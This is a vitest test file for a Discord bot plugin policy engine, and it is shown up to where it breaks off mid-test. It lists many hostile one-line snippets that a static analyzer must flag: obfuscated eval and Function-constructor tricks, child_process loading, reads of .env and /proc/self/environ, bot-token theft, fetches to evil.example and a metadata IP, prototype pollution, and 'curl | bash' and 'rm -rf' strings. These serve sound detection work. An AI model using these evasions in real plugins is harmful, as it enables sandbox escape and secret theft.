// The forbidden-API corpus: hostile snippets (obfuscated ones included) must be caught with
// the right rule; benign ones (ordinary plugin code, dangerous words in strings, methods
// named like globals) must produce no finding at all.
import { describe, expect, it } from "vitest";
import { analyzeCode } from "../../../policy-engine/rules/code/analyze.ts";
import type { Policy } from "../../../policy-engine/policy/schema.ts";
import { addedFile, collector, context, defaultPolicy, modifiedFile } from "./helpers.ts";

function rulesFor(code: string, path = "bot/plugins/demo/index.ts", policy?: Policy): string[] {
  const file = addedFile(path, code);
  const { findings, emit } = collector();
  analyzeCode(context([file], { policy }), file, emit);
  return [...new Set(findings.map((f) => f.rule))].sort();
}

/**
 * The AST rules alone: the default policy with the import allowlist widened to what plugin
 * code could import before the plugin API (discord.js, the bot core, fs, http…), so the
 * corpus below shows the forbidden-API rules raise nothing on such code by themselves.
 */
function wideImports(): Policy {
  const p = defaultPolicy();
  return {
    ...p,
    imports: {
      ...p.imports,
      packages: ["discord.js", "discord-api-types/v10", "@discordjs/formatters", "zod", "vitest"],
      builtins: [...p.imports.builtins, "fs", "fs/promises", "path", "http", "https"],
      within: ["bot/**"],
    },
  };
}

const hostile: [name: string, code: string, rule: string][] = [
  ["direct eval", `eval("1 + 1");`, "api/eval"],
  ["indirect eval (0, eval)", `(0, eval)("x");`, "api/eval"],
  ["window.eval", `window.eval("x");`, "api/eval"],
  ["globalThis.eval", `globalThis.eval("x");`, "api/eval"],
  ["global.eval", `global.eval("x");`, "api/eval"],
  ["globalThis['eval']", `globalThis["eval"]("x");`, "api/eval"],
  ["concatenated key", `globalThis["ev" + "al"]("x");`, "api/eval"],
  ["concatenated key is computed access", `globalThis["ev" + "al"]("x");`, "api/computed-access"],
  ["template key", "globalThis[`ev${'al'}`]('x');", "api/eval"],
  ["const string key", `const k = "ev" + "al"; globalThis[k]("x");`, "api/eval"],
  ["non-literal key on globalThis", `const k = atob("ZXZhbA=="); globalThis[k]("x");`, "api/computed-access"],
  ["non-literal key on process", `process[name]("x");`, "api/computed-access"],
  ["non-literal key on Reflect", `Reflect[m](target, "x");`, "api/computed-access"],
  ["non-literal key on Function", `Function[k];`, "api/computed-access"],
  ["eval alias", `const e = eval;\nexport const y = e("2");`, "api/eval"],
  ["eval via let reassignment", `let e;\ne = eval;\ne("x");`, "api/eval"],
  ["eval through ||", `const f = (undefined || eval); f("x");`, "api/eval"],
  ["eval through ternary", `(Math.random() > 2 ? eval : console.log)("x");`, "api/eval"],
  ["eval bound", `eval.bind(null)("x");`, "api/eval"],
  ["eval.call", `eval.call(null, "x");`, "api/eval"],
  ["eval passed to Reflect.apply", `Reflect.apply(eval, null, ["x"]);`, "api/eval"],
  ["eval in an array", `[eval][0]("x");`, "api/eval"],
  ["eval as shorthand property", `const o = { eval }; o.eval("x");`, "api/eval"],
  ["new Function", `new Function("return 1")();`, "api/function-constructor"],
  ["Function call", `Function("return 1")();`, "api/function-constructor"],
  ["globalThis.Function", `new globalThis.Function("x");`, "api/function-constructor"],
  ["Function.prototype.constructor", `Function.prototype.constructor("x")();`, "api/function-constructor"],
  ["arrow constructor", `(() => {}).constructor("return process")();`, "api/function-constructor"],
  ["async function constructor", `(async function () {}).constructor("x");`, "api/function-constructor"],
  [
    "getPrototypeOf async fn constructor",
    `const AF = Object.getPrototypeOf(async function () {}).constructor; new AF("x");`,
    "api/function-constructor",
  ],
  ["constructor.constructor", `[].constructor.constructor("return this")();`, "api/function-constructor"],
  ["string constructor.constructor", `""["constructor"]["constructor"]("x")();`, "api/function-constructor"],
  ["Reflect.construct(Function)", `Reflect.construct(Function, ["x"]);`, "api/function-constructor"],
  ["setTimeout string", `setTimeout("doEvil()", 10);`, "api/implied-eval"],
  ["setInterval template", "setInterval(`run(${x})`, 10);", "api/implied-eval"],
  ["globalThis.setTimeout string", `globalThis.setTimeout("x", 1);`, "api/implied-eval"],
  ["non-literal require", `const m = require(name);`, "api/dynamic-require"],
  ["require passed around", `const load = [require][0]; load("child_process");`, "api/dynamic-require"],
  ["non-literal import()", `await import(moduleName);`, "api/dynamic-import"],
  [
    "createRequire",
    `import { createRequire } from "node:module";\nconst r = createRequire(import.meta.url);\nr("child_process");`,
    "api/create-require",
  ],
  ["createRequire imports module", `import { createRequire } from "module";`, "api/forbidden-module"],
  [
    "createRequire then require child_process",
    `import { createRequire } from "node:module";\nconst r = createRequire(import.meta.url);\nr("child_process");`,
    "api/forbidden-module",
  ],
  ["module.constructor", `const M = module.constructor; M._load("x");`, "api/forbidden-member"],
  ["module.require", `module.require("x");`, "api/forbidden-member"],
  ["process.binding", `process.binding("spawn_sync");`, "api/forbidden-member"],
  ["globalThis.process.binding", `globalThis.process.binding("fs");`, "api/forbidden-member"],
  ["process.dlopen", `process.dlopen(m, "/tmp/x.node");`, "api/forbidden-member"],
  ["destructured process.binding", `const { binding } = process;\nbinding("fs");`, "api/forbidden-member"],
  ["process.mainModule.require", `process.mainModule.require("child_process");`, "api/forbidden-member"],
  ["process.exit", `process.exit(1);`, "api/forbidden-member"],
  ["import child_process", `import { exec } from "child_process";`, "api/forbidden-module"],
  ["import node:child_process", `import * as cp from "node:child_process";`, "api/forbidden-module"],
  ["require child_process destructured", `const { exec } = require("child_process");\nexec("rm -rf /");`, "api/forbidden-module"],
  ["dynamic import vm", `const vm = await import("node:vm");`, "api/forbidden-module"],
  ["require worker_threads", `const { Worker } = require("worker_threads");`, "api/forbidden-module"],
  ["import cluster", `import cluster from "cluster";`, "api/forbidden-module"],
  ["export from vm", `export { Script } from "node:vm";`, "api/forbidden-module"],
  ["require with concatenated name", `require("child_" + "process");`, "api/forbidden-module"],
  ["globalThis.require", `globalThis.require("vm");`, "api/forbidden-module"],
  ["fs.writeFileSync", `import fs from "node:fs";\nfs.writeFileSync("/etc/x", "y");`, "api/fs-write"],
  ["named writeFile", `import { writeFile } from "fs/promises";\nawait writeFile("x", "y");`, "api/fs-write"],
  ["fs.promises.rm", `import * as fs from "fs";\nawait fs.promises.rm("/", { recursive: true });`, "api/fs-write"],
  ["require fs unlink", `require("fs").unlinkSync("x");`, "api/fs-write"],
  ["destructured from require fs", `const { appendFileSync: a } = require("node:fs");\na("x", "y");`, "api/fs-write"],
  ["createWriteStream", `import { createWriteStream } from "node:fs";\ncreateWriteStream("out");`, "api/fs-write"],
  ["fs.open for writing", `import fs from "fs";\nfs.openSync("x", "w");`, "api/fs-write"],
  ["dynamic import fs then write", `const fs = await import("node:fs/promises");\nawait fs.mkdir("x");`, "api/fs-write"],
  ["computed fs member", `import fs from "fs";\nfs[op]("x");`, "api/computed-access"],
  ["fs write passed as callback", `import { rmSync } from "fs";\n["a"].forEach(rmSync);`, "api/fs-write"],
  ["process.env secret", `const t = process.env.DISCORD_TOKEN;`, "api/env"],
  ["process.env bracket", `const t = process.env["OPENAI_API_KEY"];`, "api/env"],
  ["process.env computed", `const t = process.env[name];`, "api/env"],
  ["process.env spread", `const all = { ...process.env };`, "api/env"],
  ["Object.keys(process.env)", `console.log(Object.keys(process.env));`, "api/env"],
  ["JSON.stringify(process.env)", `send(JSON.stringify(process.env));`, "api/env"],
  ["process.env destructuring", `const { GITHUB_TOKEN } = process.env;`, "api/env"],
  ["process.env rest destructuring", `const { NODE_ENV, ...rest } = process.env;`, "api/env"],
  ["env alias", `const env = process.env;\nconsole.log(env.SECRET);`, "api/env"],
  ["destructured env from process", `const { env } = process;\nenv.TOKEN;`, "api/env"],
  ["node:process env import", `import { env } from "node:process";\nenv.TOKEN;`, "api/env"],
  ["for-in over process.env", `for (const k in process.env) console.log(k);`, "api/env"],
  ["fetch to other host", `await fetch("https://evil.example/steal");`, "api/network"],
  ["fetch userinfo trick", `await fetch("https://discord.com@evil.example/");`, "api/network"],
  ["fetch to non-literal URL", `await fetch(url);`, "api/network"],
  ["fetch host continued by a variable", `await fetch("https://discord.com" + rest);`, "api/network"],
  ["fetch through globalThis", `globalThis.fetch("http://169.254.169.254/latest/meta-data");`, "api/network"],
  ["fetch alias", `const f = fetch;\nf("https://evil.example");`, "api/network"],
  ["fetch new URL other host", `fetch(new URL("https://evil.example/x"));`, "api/network"],
  ["https.get", `import https from "node:https";\nhttps.get("https://evil.example/");`, "api/network"],
  ["http.request options", `import http from "http";\nhttp.request({ hostname: "evil.example", path: "/" });`, "api/network"],
  ["http.createServer", `import { createServer } from "node:http";\ncreateServer(() => {}).listen(8080);`, "api/network"],
  ["net module", `import net from "node:net";`, "api/network"],
  ["dgram module", `const d = require("dgram");`, "api/network"],
  ["WebSocket", `new WebSocket("wss://evil.example/socket");`, "api/network"],
  ["XMLHttpRequest", `new XMLHttpRequest();`, "api/network"],
  ["global object passed to Reflect.get", `Reflect.get(globalThis, key);`, "api/global-object"],
  ["global object keys", `Object.getOwnPropertyNames(globalThis);`, "api/global-object"],
  ["WebAssembly", `WebAssembly.instantiate(bytes);`, "api/forbidden-global"],
  ["TS import = require", `import cp = require("child_process");`, "api/forbidden-module"],
  ["setTimeout.call with a string", `setTimeout.call(null, "doEvil()", 1);`, "api/implied-eval"],
  ["setTimeout.apply with a string", `setTimeout.apply(null, ["doEvil()", 1]);`, "api/implied-eval"],
  ["fetch.call to other host", `fetch.call(globalThis, "https://evil.example/");`, "api/network"],
  ["import from a data: URL", `await import("data:text/javascript,console.log(1)");`, "api/dynamic-import"],
  ["import from https URL", `import x from "https://evil.example/x.js";`, "api/dynamic-import"],
  ["process object passed around", `inspect(process);`, "api/global-object"],
  ["require.extensions", `require.extensions[".txt"] = () => {};`, "api/forbidden-member"],
  ["tagged template Function", "Function`return 1`;", "api/function-constructor"],
  ["optional call of eval", `eval?.("x");`, "api/eval"],
  ["destructured eval from globalThis", `const { eval: run } = globalThis;\nrun("x");`, "api/eval"],
  ["destructured constructor from an arrow", `const { constructor: F } = () => {};\nF("x")();`, "api/function-constructor"],
  ["constructor chain through a const key", `const c = "constructor";\n[][c][c]("return process")();`, "api/function-constructor"],
  ["setTimeout with String()", `setTimeout(String(payload), 1);`, "api/implied-eval"],
  ["setTimeout with atob", `setTimeout(atob("YWxlcnQoMSk="));`, "api/implied-eval"],
  ["setTimeout with join", `setTimeout(["al", "ert(1)"].join(""));`, "api/implied-eval"],
  ["import().then with fs write", `import("node:fs").then((fs) => fs.writeFileSync("x", "y"));`, "api/fs-write"],
  ["import().then destructured", `import("fs/promises").then(({ rm }) => rm("/", { recursive: true }));`, "api/fs-write"],
  ["new fs.WriteStream", `import fs from "fs";\nnew fs.WriteStream("x");`, "api/fs-write"],
  ["unicode-escaped eval", `\\u0065val("x");`, "api/eval"],
  ["unicode-escaped identifier is flagged", `const \\u0061 = 1;`, "unicode/identifier"],
  ["confusable identifier", `const isАdmin = true;`, "unicode/identifier"],
  ["it['only']", `it["only"]("x", () => {});`, "tests/skip-only"],
  [
    "http options override the URL host",
    `import https from "node:https";\nhttps.get("https://discord.com/", { hostname: "evil.example" });`,
    "api/network",
  ],
  [
    "http options with both host and hostname",
    `import http from "http";\nhttp.request({ hostname: "evil.example", host: "discord.com" });`,
    "api/network",
  ],
  ["http options spread", `import https from "https";\nhttps.request({ ...opts, path: "/" });`, "api/network"],
  [
    "http options socketPath",
    `import http from "http";\nhttp.get({ socketPath: "/var/run/docker.sock", path: "/containers" });`,
    "api/network",
  ],
  ["new URL with backslash trick", `fetch(new URL("/\\\\evil.example/x", "https://discord.com"));`, "api/network"],
  ["fetch without a host", `fetch("file:///etc/passwd");`, "api/network"],
  ["globalThis.constructor.constructor", `globalThis.constructor.constructor("return process")();`, "api/function-constructor"],
  ["process.getBuiltinModule", `const cp = process.getBuiltinModule("node:child_process");`, "api/forbidden-module"],
  ["process.getBuiltinModule fs write", `process.getBuiltinModule("fs").writeFileSync("x", "y");`, "api/fs-write"],
  ["process.getBuiltinModule non-literal", `process.getBuiltinModule(name);`, "api/dynamic-require"],
  ["interaction.client.token", `await interaction.reply(interaction.client.token);`, "api/client-token"],
  ["client.token", `send(client.token);`, "api/client-token"],
  ["client['tok' + 'en']", `send(client["tok" + "en"]);`, "api/client-token"],
  ["destructured client token", `const { client: { token } } = interaction;`, "api/client-token"],
  ["Reflect.get(client, 'token')", `send(Reflect.get(interaction.client, "token"));`, "api/client-token"],
  ["client token property descriptor", `send(Object.getOwnPropertyDescriptor(client, "tok" + "en")?.value);`, "api/client-token"],
  ["all client property descriptors", `send(Object.getOwnPropertyDescriptors(client));`, "api/client-token"],
  ["client under another name", `const c = interaction.client;\nsend(c.token);`, "api/client-token"],
  ["parameter typed Client", `import type { Client } from "discord.js";\nexport const f = (bot: Client) => bot.token;`, "api/client-token"],
  [
    "parameter typed Discord.Client, Reflect.get",
    `export const f = (bot: Discord.Client) => Reflect.get(bot, "token");`,
    "api/client-token",
  ],
  ["token kept below client.ws", `send((interaction.client.ws as any)._ws.options.token);`, "api/client-token"],
  ["token destructured below client.ws", `const { options: { token } } = (client.ws as any)._ws;`, "api/client-token"],
  ["getPrototypeOf result assigned to", `(Object.getPrototypeOf({}) as any).isAdmin = true;`, "api/global-mutation"],
  ["Reflect.getPrototypeOf result assigned to", `Reflect.getPrototypeOf([]).includes = () => true;`, "api/global-mutation"],
  ["name bound to a prototype", `const p = Object.getPrototypeOf({});\np.isAdmin = true;`, "api/global-mutation"],
  ["Object.assign onto getPrototypeOf", `Object.assign(Object.getPrototypeOf({}), { isAdmin: true });`, "api/global-mutation"],
  ["__defineGetter__ on Object.prototype", `Object.prototype.__defineGetter__("isAdmin", () => true);`, "api/global-mutation"],
  [
    "__defineSetter__ on a prototype from getPrototypeOf",
    `Object.getPrototypeOf([]).__defineSetter__("x", () => {});`,
    "api/global-mutation",
  ],
  ["__defineGetter__ via call", `Object.prototype.__defineGetter__.call(Array.prototype, "x", () => 1);`, "api/global-mutation"],
  ["push onto a core export", `import { SETTING_KEYS } from "../../core/settings.ts";\nSETTING_KEYS.push("token");`, "api/global-mutation"],
  [
    "Map.set below a core namespace",
    `import * as core from "../../core/registry.ts";\ncore.handlers["set"]("x", () => {});`,
    "api/global-mutation",
  ],
  [
    "splice an aliased core export",
    `import { OWNERS } from "../../core/owners.ts";\nconst o = OWNERS;\no.splice(0);`,
    "api/global-mutation",
  ],
  [
    "push.call onto a core export",
    `import { SETTING_KEYS } from "../../core/settings.ts";\nArray.prototype.push.call(SETTING_KEYS, "token");`,
    "api/global-mutation",
  ],
  [
    "Reflect.apply of Map.set onto a core export",
    `import { handlers } from "../../core/registry.ts";\nReflect.apply(Map.prototype.set, handlers, ["x", () => {}]);`,
    "api/global-mutation",
  ],
  ["clear a package export", `import { cache } from "some-lib";\ncache.clear();`, "api/global-mutation"],
  [
    "fs read with percent-encoded dot segments",
    `import { readFileSync } from "node:fs";\nreadFileSync(new URL("./%2e%2e/%2E%2e/.env", import.meta.url));`,
    "api/fs-read",
  ],
  [
    "fs read with a half-encoded dot segment",
    `import { readFileSync } from "node:fs";\nreadFileSync(new URL("./.%2e/secret", import.meta.url));`,
    "api/fs-read",
  ],
  ["package subpath climbing out", `import x from "discord.js/../openai/index.js";`, "api/import-package"],
  ["package subpath climbing out, encoded", `const x = await import("zod/%2e%2e/openai");`, "api/import-package"],
  ["scoped package subpath climbing out", `const x = require("@discordjs/formatters/../../openai");`, "api/import-package"],
  ["import of a package outside the allowlist", `import OpenAI from "openai";`, "api/import-package"],
  ["require of a package outside the allowlist", `const { Octokit } = require("@octokit/rest");`, "api/import-package"],
  ["relative import into the control plane", `import { store } from "../../../app/store.ts";`, "api/import-outside"],
  ["absolute import", `import x from "/etc/passwd";`, "api/import-outside"],
  ["constructor of a built-in method", `[].filter.constructor("return process")();`, "api/function-constructor"],
  ["constructor of console.log via brackets", `console.log["constructor"]("x")();`, "api/function-constructor"],
  ["new constructor of a method with a string", `new Math.max.constructor("return 1");`, "api/function-constructor"],
  ["JSFuck-style keys", `[][(![] + [])[+[]] + (![] + [])[!+[] + !+[]]];`, "api/obfuscation"],
  ["extensionless relative require", `const p = require("./payload");`, "api/import-unanalysed"],
  ["folder import", `import x from "./lib";`, "api/import-unanalysed"],
  ["import of a text file", `import x from "./notes.txt";`, "api/import-unanalysed"],
  ["read /proc/self/environ", `import { readFileSync } from "node:fs";\nreadFileSync("/proc/self/environ", "utf8");`, "api/fs-read"],
  ["read .env", `import fs from "node:fs/promises";\nawait fs.readFile(".env", "utf8");`, "api/fs-read"],
  ["read a computed path", `import { createReadStream } from "fs";\ncreateReadStream(path);`, "api/fs-read"],
  [
    "read with .. next to the module",
    `import { readFileSync } from "fs";\nreadFileSync(new URL("./../../../.env", import.meta.url));`,
    "api/fs-read",
  ],
  [
    "join with ..",
    `import { readFileSync } from "fs";\nimport { join } from "path";\nreadFileSync(join(import.meta.dirname, "../../..", ".env"));`,
    "api/fs-read",
  ],
  ["fs read passed around", `import { readFileSync } from "fs";\n[".env"].map(readFileSync);`, "api/fs-read"],
  ["fetch passed around", `Reflect.apply(fetch, null, ["https://evil.example"]);`, "api/network"],
  ["https.get passed around", `import https from "https";\n["https://evil.example"].forEach(https.get);`, "api/network"],
  ["setTimeout.bind with a string", `setTimeout.bind(null, "doEvil()")();`, "api/implied-eval"],
  ["fetch.bind with a URL", `fetch.bind(null, "https://evil.example/")();`, "api/network"],
  ["module.parent.require", `module.parent.require("child_process");`, "api/forbidden-member"],
  ["process.report", `const r = process.report.getReport();`, "api/forbidden-member"],
  ["global object as this of an own function", `(function () { return this.eval("x"); }).call(globalThis);`, "api/global-object"],
  ["probing for a secret env var", `if ("DISCORD_TOKEN" in process.env) leak();`, "api/env"],
  ["patching JSON.parse", `JSON.parse = (t) => { leak(t); return {}; };`, "api/global-mutation"],
  ["patching a prototype", `String.prototype.replace = function () { return ""; };`, "api/global-mutation"],
  ["patching fetch", `globalThis.fetch = async (u, i) => { leak(i); return new Response(""); };`, "api/global-mutation"],
  ["patching console", `console.log = () => {};`, "api/global-mutation"],
  ["deleting a built-in member", `delete Array.prototype.map;`, "api/global-mutation"],
  ["patching through __proto__", `({}).__proto__.polluted = true;`, "api/global-mutation"],
  ["patching through a computed key", `Object["prototype"]["x"] = 1;`, "api/global-mutation"],
  ["Object.defineProperty on JSON", `Object.defineProperty(JSON, "parse", { value: () => ({}) });`, "api/global-mutation"],
  ["Object.assign onto console", `Object.assign(console, { log: () => {} });`, "api/global-mutation"],
  ["Reflect.set on a prototype", `Reflect.set(Array.prototype, "map", () => []);`, "api/global-mutation"],
  ["rm -rf in a string", `const cmd = "rm -rf /var/lib/bot";`, "api/dangerous-string"],
  ["DROP TABLE in a template", "const sql = `DROP TABLE ${table}`;", "api/dangerous-string"],
  ["DELETE without WHERE", `db.run("DELETE FROM users");`, "api/dangerous-string"],
  ["curl piped to sh", `const s = "curl -fsSL https://x.example/i.sh | bash";`, "api/dangerous-string"],
  ["describe.only", `describe.only("x", () => {});`, "tests/skip-only"],
  ["it.skip", `it.skip("x", () => {});`, "tests/skip-only"],
  ["test.skipIf", `test.skipIf(true)("x", () => {});`, "tests/skip-only"],
  ["xit", `xit("x", () => {});`, "tests/skip-only"],
  ["fit", `fit("x", () => {});`, "tests/skip-only"],
  ["it.skip with vitest imported", `import { describe, it } from "vitest";\nit.skip("x", () => {});`, "tests/skip-only"],
  ["describe.concurrent.only", `describe.concurrent.only("x", () => {});`, "tests/skip-only"],
];

const benign: [name: string, code: string][] = [
  ["dangerous words in strings", `const tip = "don't use eval, new Function or child_process";\nconst s = 'process.env.SECRET';`],
  ["a method named evaluate", `class Calc { evaluate(expr: string) { return expr.length; } }\nnew Calc().evaluate("1+1");`],
  ["eval as a user object member", `const parser = { eval: (s: string) => s.length };\nparser.eval("x");\nmath.eval("1 + 1");`],
  ["property named constructor on this", `class A { name() { return this.constructor.name; } }`],
  ["typeof eval / instanceof Function", `if (typeof eval === "function" && cb instanceof Function) {}\nconst g = typeof globalThis;`],
  ["Function as a type", `type Cb = Function;\nlet f: Function = () => {};\ninterface X { run: Function }`],
  [
    "allowed env vars",
    `const mode = process.env.NODE_ENV;\nconst tz = process.env["TZ"];\nconst { NODE_ENV } = process.env;\nconst set = "TZ" in process.env;`,
  ],
  [
    "fetch to an allowed host",
    `await fetch("https://discord.com/api/v10/users/@me");\nawait fetch(\`https://cdn.discordapp.com/avatars/\${id}/\${hash}.png\`);`,
  ],
  [
    "fetch to allowed host via const base",
    `const API = "https://discord.com/api/v10";\nawait fetch(\`\${API}/channels/\${id}\`);\nawait fetch(API + "/users/" + id);`,
  ],
  [
    "https.get to an allowed host with options",
    `import https from "node:https";\nhttps.get("https://discord.com/api/v10/gateway", { headers: { "user-agent": "ouro" } }, (res) => res.resume());\nhttps.request({ hostname: "discord.com", path: "/api" });`,
  ],
  ["bound fetch, then called with an allowed URL", `const f = fetch.bind(globalThis);\nawait f("https://discord.com/api");`],
  ["fetch with new URL to allowed host", `await fetch(new URL("/api/v10/gateway", "https://discord.com"));`],
  ["setTimeout with a function", `setTimeout(() => done(), 1000);\nsetInterval(tick, 500);\nsetTimeout(callback);`],
  [
    "literal require and imports",
    `const path = require("node:path");\nimport { join } from "node:path";\nconst m = await import("./helper.ts");`,
  ],
  [
    "fs reads next to the module",
    `import { readFileSync, promises, existsSync, statSync } from "node:fs";\nimport { join } from "node:path";\nreadFileSync(new URL("./data.json", import.meta.url), "utf8");\nawait promises.readFile(join(import.meta.dirname, "words.txt"));\nimport fs from "fs";\nfs.openSync(new URL("./x.bin", import.meta.url), "r");\nexistsSync("z");\nstatSync("z");`,
  ],
  ["globalThis members with literal names", `globalThis.setTimeout(() => {}, 1);\nconst t = globalThis.structuredClone({});`],
  [
    "ordinary plugin on the plugin API",
    `import { definePlugin } from "../../plugin-api/index.ts";

const ROLL = /^!roll (\\d+)$/;

export default definePlugin({
  name: "dice",
  description: "Rolls dice",
  commands: [
    {
      name: "roll",
      description: "Roll a die",
      options: [{ name: "sides", description: "Sides", type: "integer", min: 2 }],
      async run(call) {
        const sides = Number(call.options.sides ?? 6);
        const value = 1 + Math.floor(Math.random() * sides);
        await call.reply({ embeds: [{ title: "Dice", description: \`You rolled \${value}\` }] });
      },
    },
  ],
  responders: [{ name: "roll", trigger: "^!roll (\\\\d+)$", respond: (m) => String(1 + Math.floor(Math.random() * Number(ROLL.exec(m.content)?.[1] ?? 6))) }],
  tools: [{ name: "roll", description: "roll", parameters: { type: "object" }, run: (args) => JSON.stringify(args) }],
});`,
  ],
  [
    "vitest test without skip/only",
    `import { describe, expect, it } from "vitest";\ndescribe("dice", () => { it("rolls", () => { expect(1).toBe(1); }); });\nit.each([1, 2])("case %i", (n) => {});\ntest.todo("later");`,
  ],
  [
    "objects with keys named like dangerous APIs",
    `const o = { exec: 1, spawn: 2, binding: 3, env: {} };\nconst e = o.env.SECRET;\nconst { exec } = o;`,
  ],
  ["local variables named like globals in members", `const cfg = { process: { env: { X: 1 } } };\ncfg.process.env.X;`],
  [
    "array element access with variables",
    `const items = [1, 2];\nconst i = 0;\nitems[i];\nconst map: Record<string, number> = {};\nmap[key];`,
  ],
  [
    "process members that are harmless",
    `console.log(process.version, process.platform, process.uptime());\nprocess.nextTick(() => {});\nprocess.on("warning", () => {});`,
  ],
  [
    "client members that are fine, and interaction tokens handled by discord.js",
    `const ping = interaction.client.ws.ping;\nconst name = interaction.client.user?.username;\nconst { user } = interaction.client;\nawait interaction.client.rest.get("/gateway");`,
  ],
  [
    "allowed packages, built-ins and the bot core",
    `import { SlashCommandBuilder } from "discord.js";\nimport { Routes } from "discord-api-types/v10";\nimport { z } from "zod";\nimport { bold } from "@discordjs/formatters";\nimport { join } from "node:path";\nimport { randomUUID } from "crypto";\nimport { definePlugin } from "../../core/plugin.ts";\nimport { helper } from "./helper.ts";`,
  ],
  [
    "constructor used the ordinary ways",
    `class A { clone() { return new this.constructor(this.name); } }\nconst isPlain = value.constructor === Object;\nconst n = obj.constructor.name;\nconst copy = new obj.constructor();\nconst last = items[items.length - 1];\nconst neg = items[-1];`,
  ],
  [
    "buttons, collectors, cooldowns and formatting",
    `import { ActionRowBuilder, ButtonBuilder, ButtonStyle, ComponentType, EmbedBuilder, SlashCommandBuilder, type ChatInputCommandInteraction } from "discord.js";
import { randomUUID, randomInt } from "node:crypto";
import { definePlugin } from "../../core/plugin.ts";

const cooldowns = new Map<string, number>();
const COOLDOWN_MS = 5_000;

function onCooldown(userId: string, now = Date.now()): boolean {
  const last = cooldowns.get(userId) ?? 0;
  if (now - last < COOLDOWN_MS) return true;
  cooldowns.set(userId, now);
  return false;
}

async function execute(interaction: ChatInputCommandInteraction) {
  if (onCooldown(interaction.user.id)) return interaction.reply({ content: "Slow down!", ephemeral: true });
  const id = randomUUID();
  const row = new ActionRowBuilder<ButtonBuilder>().addComponents(
    new ButtonBuilder().setCustomId(\`yes:\${id}\`).setLabel("Yes").setStyle(ButtonStyle.Success),
    new ButtonBuilder().setCustomId(\`no:\${id}\`).setLabel("No").setStyle(ButtonStyle.Danger),
  );
  const message = await interaction.reply({ content: "Vote?", components: [row], fetchReply: true });
  const collector = message.createMessageComponentCollector({ componentType: ComponentType.Button, time: 15_000 });
  const votes: Record<string, number> = { yes: 0, no: 0 };
  collector.on("collect", async (button) => {
    const [choice] = button.customId.split(":");
    votes[choice] = (votes[choice] ?? 0) + 1;
    await button.update({ content: \`Yes: \${votes.yes} · No: \${votes.no}\` });
  });
  collector.on("end", () => void interaction.editReply({ components: [] }));
  const when = new Intl.DateTimeFormat("en-GB", { dateStyle: "medium" }).format(new Date());
  const embed = new EmbedBuilder().setTitle("Poll").setFooter({ text: when }).setColor(randomInt(0xffffff));
  await interaction.followUp({ embeds: [embed] });
}

export default definePlugin({
  name: "poll",
  description: "Quick polls",
  commands: [{ data: new SlashCommandBuilder().setName("poll").setDescription("Start a poll"), execute }],
});`,
  ],
  [
    "a model tool with zod and JSON",
    `import { z } from "zod";
import type { ModelTool } from "../../plugin-api/index.ts";

const args = z.object({ city: z.string().min(1), units: z.enum(["c", "f"]).default("c") });

export const convert: ModelTool = {
  name: "convert_temperature",
  description: "Converts a temperature",
  parameters: { type: "object", properties: { city: { type: "string" } }, required: ["city"] },
  run(raw) {
    const parsed = args.safeParse(raw);
    if (!parsed.success) return JSON.stringify({ error: parsed.error.issues.map((i) => i.message) });
    const { city, units } = parsed.data;
    const table: Record<string, number> = { paris: 18, oslo: 4 };
    const c = table[city.toLowerCase()] ?? 20;
    return JSON.stringify({ city, value: units === "c" ? c : c * 1.8 + 32 });
  },
};`,
  ],
  [
    "responder with regex and string methods",
    `export const responder = {
  name: "greet",
  trigger: /^(hi|hello)\\b/i,
  respond: (m: { content: string; authorId: string }) => \`Hello <@\${m.authorId}>! You said "\${m.content.slice(0, 50).replaceAll("@", "")}"\`,
};
const words = ["alpha", "beta"].map((w) => w.toUpperCase()).join(", ");
export const summary = words.padEnd(20, ".");`,
  ],
  [
    "assigning to own objects and this",
    `const state = { count: 0 };\nstate.count += 1;\nclass A { n = 0; inc() { this.n++; this.cache = new Map(); } }\nconst m = new Map();\nm.size;\nexports.x = 1;\nmodule.exports = { a: 1 };\nmodule.exports.b = 2;\ndelete state.count;\nconst merged = Object.assign({}, state, { more: 1 });\nObject.defineProperty(state, "hidden", { value: 1 });`,
  ],
  [
    "SQL and shell words that are not destructive",
    `const q = "SELECT * FROM users WHERE id = ?";\nconst d = "DELETE FROM users WHERE id = ?";\nconst help = "Use /drop to drop an item; confirm -rf is not a command";\nconst t = "table";`,
  ],
  [
    "own arrays, maps and sets mutated; core values only read",
    `import { SETTING_KEYS } from "../../core/settings.ts";\nimport { helpers } from "./helpers.ts";\nconst mine: string[] = [...SETTING_KEYS];\nmine.push("x");\nmine.sort();\nconst seen = new Set<string>();\nseen.add("a");\nseen.delete("a");\nhelpers.list.push(1);\nArray.prototype.push.call(mine, "y");\nReflect.apply(Set.prototype.add, seen, ["b"]);\nconst copy = SETTING_KEYS.slice().reverse();\nconst has = SETTING_KEYS.includes("x");\nBuffer.alloc(4).fill(0);`,
  ],
  [
    "token properties of the plugin's own objects",
    `const res = await fetch("https://discord.com/api/oauth2/token");\nconst body = (await res.json()) as { access_token: string; token: string };\nconst t = body.token;\nconst { token } = body;\nconst session = { token: "x" };\nsession.token;\ninteraction.token;\nconst d = Object.getOwnPropertyDescriptor(session, "token");\nconst r = Reflect.get(session, "token");`,
  ],
  [
    "client aliases used for ordinary things",
    `const c = interaction.client;\nconst name = c.user?.username;\nexport const f = (bot: Client) => bot.ws.ping;\nconst oauth = { token: "x" };\noauth.token;`,
  ],
  [
    "prototypes only read",
    `const proto = Object.getPrototypeOf(value);\nconst isPlain = proto === Object.prototype || proto === null;\nconst name = Object.getPrototypeOf(obj).constructor.name;\nconst g = obj.__lookupGetter__?.("x");`,
  ],
  [
    "fs reads with encoded but local names, package subpaths",
    `import { readFileSync } from "node:fs";\nimport { Routes } from "discord-api-types/v10";\nreadFileSync(new URL("./data/my%20file.json", import.meta.url));\nreadFileSync(new URL("./.hidden/..json", import.meta.url));`,
  ],
  ["JSX component", `export const App = () => <div className="x" onClick={() => setTimeout(() => {}, 1)}>{"eval"}</div>;`],
];

describe("forbidden APIs: hostile snippets are caught", () => {
  it.each(hostile)("%s", (_name, code, rule) => {
    const path = code.includes("<div") ? "bot/plugins/demo/index.tsx" : "bot/plugins/demo/index.ts";
    expect(rulesFor(code, path)).toContain(rule);
  });
});

describe("forbidden APIs: benign code passes", () => {
  it.each(benign)("%s", (name, code) => {
    const path = code.includes("<div") ? "bot/plugins/demo/index.tsx" : "bot/plugins/demo/index.ts";
    expect(rulesFor(code, path, wideImports()), name).toEqual([]);
  });
});

describe("forbidden APIs: only what changed", () => {
  it("reports an old violation only when its line is touched", () => {
    const before = `const e = eval;\nexport const a = 1;\n`;
    const after = `const e = eval;\nexport const a = 2;\n`;
